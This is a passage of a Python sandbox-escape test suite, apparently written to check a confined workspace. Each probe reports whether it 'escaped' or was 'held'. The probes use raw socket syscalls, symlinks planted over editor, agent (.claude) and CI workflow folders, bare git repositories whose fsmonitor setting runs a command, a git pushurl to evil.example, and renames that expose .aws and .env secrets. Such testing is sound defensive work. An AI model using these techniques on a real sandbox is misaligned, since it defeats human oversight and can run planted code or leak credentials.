    address = struct.pack("=H", 0) + struct.pack(">H", int(W["udp"])) + socket.inet_aton("127.0.0.1") + bytes(8)
    sc(44, one.fileno(), b"escaped", 7, 0, address, len(address))
    return False  # the server outside would have heard it


@escape
def datagram_without_a_family_in_a_message() -> bool:
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    address = struct.pack("=H", 0) + struct.pack(">H", int(W["udp"])) + socket.inet_aton("127.0.0.1") + bytes(8)
    name, data = ctypes.create_string_buffer(address), ctypes.create_string_buffer(b"escaped")
    vector = struct.pack("QQ", ctypes.addressof(data), 7)
    vectors = ctypes.create_string_buffer(vector)
    header = struct.pack("QIxxxxQQQQii", ctypes.addressof(name), 16, ctypes.addressof(vectors), 1, 0, 0, 0, 0)
    sc(46, one.fileno(), header, 0)
    return False


def listens_to_the_world(one: socket.socket) -> bool:
    host = one.getsockname()[0]
    return host in ("0.0.0.0", "::", "::ffff:0.0.0.0")


@escape
def listen_to_the_world_without_a_family() -> bool:
    one = socket.socket()
    sc(49, one.fileno(), bytes(16), 16)
    one.listen()
    return listens_to_the_world(one)


@escape
def listen_to_the_world_by_a_mapped_address() -> bool:
    one = socket.socket(socket.AF_INET6)
    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    one.bind(("::ffff:0.0.0.0", 0))
    one.listen()
    return listens_to_the_world(one)


@escape
def datagrams_of_the_world_by_a_mapped_address() -> bool:
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    one.bind(("::ffff:0.0.0.0", 8099))
    return listens_to_the_world(one)


@escape
def a_port_that_was_ours_once() -> bool:
    """Bound and closed here; somebody outside listens there by the time it is used again."""
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    one.bind(("127.0.0.1", 0))
    one.listen()
    port = one.getsockname()[1]
    one.close()
    with open("port.tmp", "w") as file:
        file.write(str(port))
    os.rename("port.tmp", "port-wanted")
    for _ in range(2000):
        if os.path.exists("port-taken"):
            socket.create_connection(("127.0.0.1", port), 2)
            return True
        time.sleep(0.002)
    raise AssertionError("nobody has taken the port")


def link_by_name(name: str) -> bool:
    os.makedirs("evil", exist_ok=True)
    os.symlink("evil", name)
    return os.path.islink(name)


@escape
def link_in_place_of_the_editors_folder() -> bool:
    return link_by_name(".idea")


@escape
def link_in_place_of_the_editors_folder_in_another_case() -> bool:
    return link_by_name(".VSCode")


@escape
def link_in_place_of_the_workflows() -> bool:
    os.makedirs("services/.github")
    return link_by_name("services/.github/workflows")


@escape
def link_moved_in_place_of_the_agents_folder() -> bool:
    os.symlink("evil", "innocent")
    os.rename("innocent", ".claude")
    return os.path.islink(".claude")


@escape
def link_exchanged_for_the_editors_folder() -> bool:
    os.mkdir(".devcontainer")
    os.symlink("evil", "innocent-2")
    sc(316, AT, b"innocent-2", AT, b".devcontainer", 2)
    return os.path.islink(".devcontainer")


@escape
def hard_link_to_a_link_in_place_of_the_editors_folder() -> bool:
    os.symlink("evil", "innocent-3")
    os.link("innocent-3", ".cursor", follow_symlinks=False)
    return os.path.islink(".cursor")


@escape
def link_inside_a_folder_that_moves() -> bool:
    os.mkdir("innocent-4")
    os.symlink("../evil", "innocent-4/workflows")
    os.makedirs("service-2")
    os.rename("innocent-4", "service-2/.github")
    return os.path.islink("service-2/.github/workflows")


@escape
def task_among_too_many_files_to_look_at() -> bool:
    os.mkdir("crowd")
    for number in range(10_100):
        os.close(os.open(f"crowd/a{number}", os.O_CREAT | os.O_WRONLY))
    os.mkdir("crowd/zz")
    os.mkdir("crowd/zz/workflows")
    with open("crowd/zz/workflows/ci.yml", "w") as file:
        file.write("on: push")
    os.rename("crowd/zz", "crowd/zz-2")
    os.mkdir("crowd-parent")
    os.rename("crowd", "crowd-parent/.vscode")
    return os.path.exists("crowd-parent/.vscode")


EVIL = "[core]\n\tbare = true\n\tfsmonitor = echo escaped >&2\n\trepositoryformatversion = 0\n"


def bare(folder: str, order: str) -> bool:
    """Make the parts of a repository in some order; whether git would now run what it names."""
    os.mkdir(folder)
    for part in order:
        if part == "c":
            with open(f"{folder}/config", "w") as file:
                file.write(EVIL)
        elif part == "h":
            with open(f"{folder}/HEAD", "w") as file:
                file.write("ref: refs/heads/main\n")
        else:
            os.mkdir(f"{folder}/{'objects' if part == 'o' else 'refs'}")
    return True


@escape
def bare_repository_with_its_configuration_first() -> bool:
    return bare("bare-1", "chor")


@escape
def bare_repository_with_its_configuration_last() -> bool:
    return bare("bare-2", "hroc")


@escape
def bare_repository_with_its_head_last() -> bool:
    return bare("bare-3", "corh")


@escape
def bare_repository_whose_head_is_moved_into_place() -> bool:
    bare("bare-4", "cor")
    with open("bare-4/H", "w") as file:
        file.write("ref: refs/heads/main\n")
    os.rename("bare-4/H", "bare-4/HEAD")
    return True


@escape
def bare_repository_whose_objects_are_a_link() -> bool:
    bare("bare-5", "chr")
    os.symlink("refs", "bare-5/objects")
    return True


@escape
def bare_repository_with_a_configuration_held_open() -> bool:
    os.mkdir("bare-6")
    held = os.open("bare-6/config", os.O_RDWR | os.O_CREAT)
    os.write(held, b"[core]\n\tbare = true\n\trepositoryformatversion = 0\n")
    with open("bare-6/HEAD", "w") as file:
        file.write("ref: refs/heads/main\n")
    for name in ("objects", "refs"):
        os.mkdir(f"bare-6/{name}")
    os.write(held, b"\tfsmonitor = echo escaped >&2\n")
    with open("bare-6/config") as file:
        return "fsmonitor" in file.read()


@escape
def bare_repository_with_a_linked_configuration() -> bool:
    bare("bare-7", "hor")
    with open("innocent.txt", "w") as file:
        file.write(EVIL)
    os.symlink("../innocent.txt", "bare-7/config")
    return True


@escape
def bare_repository_with_a_hard_linked_configuration() -> bool:
    bare("bare-8", "hor")
    with open("innocent-8.txt", "w") as file:
        file.write(EVIL)
    os.link("innocent-8.txt", "bare-8/config")
    return True


@escape
def bare_repository_made_in_the_temporary_folder() -> bool:
    bare(os.environ["TMPDIR"] + "/bare", "chor")
    os.rename(os.environ["TMPDIR"] + "/bare", "bare-9")
    return True


@escape
def repository_split_by_a_commondir() -> bool:
    bare("bare-10", "cor")
    os.mkdir("bare-11")
    with open("bare-11/HEAD", "w") as file:
        file.write("ref: refs/heads/main\n")
    with open("bare-11/commondir", "w") as file:
        file.write("../bare-10\n")
    return True


@escape
def change_what_the_configuration_of_git_includes() -> bool:
    with open("included.txt", "w") as file:
        file.write("[core]\n\tfsmonitor = x\n")
    return True


@escape
def move_over_what_the_configuration_of_git_includes() -> bool:
    with open("other.txt", "w") as file:
        file.write("[core]\n\tfsmonitor = x\n")
    os.rename("other.txt", "included.txt")
    return True


@escape
def write_a_hook_where_the_configuration_of_git_looks() -> bool:
    os.makedirs("my-own-hooks", exist_ok=True)
    with open("my-own-hooks/whatever", "w") as file:
        file.write("#!/bin/sh\n")
    return True


@escape
def configuration_of_git_behind_a_continued_line() -> bool:
    with open("config.new", "w") as file:
        file.write("[core]\n\tbare = false ; \\\n\tsshCommand = x\n")
    os.rename("config.new", ".git/config")
    return True


@escape
def configuration_of_git_with_another_place_to_push_to() -> bool:
    with open("config.new", "w") as file:
        file.write('[remote "origin"]\n\turl = https://example.org/x\n\tpushurl = https://evil.example/x\n')
    os.rename("config.new", ".git/config")
    return True


@escape
def read_what_a_folder_makes_secret_env_file() -> bool:
    os.rename("cloud/.aws", "cloud/innocent")
    return reads("cloud/innocent/config")


@escape
def read_the_env_file_from_the_temporary_folder() -> bool:
    os.rename("holder", os.environ["TMPDIR"] + "/holder")
    return reads(os.environ["TMPDIR"] + "/holder/.env")


@escape
def read_the_env_file_from_among_libraries() -> bool:
    os.mkdir("node_modules")
    os.rename("holder-2", "node_modules/holder-2")
    return reads("node_modules/holder-2/.env")


@escape
def read_the_env_file_by_making_its_parent_a_library() -> bool:
    os.rename("holder-3", "vendor")
    return reads("vendor/sub/.env")


@escape
def more_under_an_answer_that_was_about_something_else() -> bool:
    """Another configuration in the same place is another question; each of them is refused here."""
    for key in ("editor = vi", "sshCommand = x"):
        with open("config.new", "w") as file:
            file.write(f"[core]\n\t{key}\n")
        try:
            os.rename("config.new", ".git/config")
        except PermissionError:
            continue
        return True
    return False


def run_one(name: str) -> str:
    child = os.fork()
    if child == 0:
        signal.alarm(8)
        code = 0
        try:
            code = 42 if ESCAPES[name]() else 0
        except BaseException:
            code = 0
        os._exit(code)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return "escaped" if status == 42 else "held" if status == 0 else f"held ({status})"


def main() -> None:
    with open(sys.argv[1]) as file:
        W.update(json.load(file))
    for name in sys.argv[2:] or ESCAPES:
        print(json.dumps({"name": name, "result": run_one(name)}), flush=True)


if __name__ == "__main__":
    main()
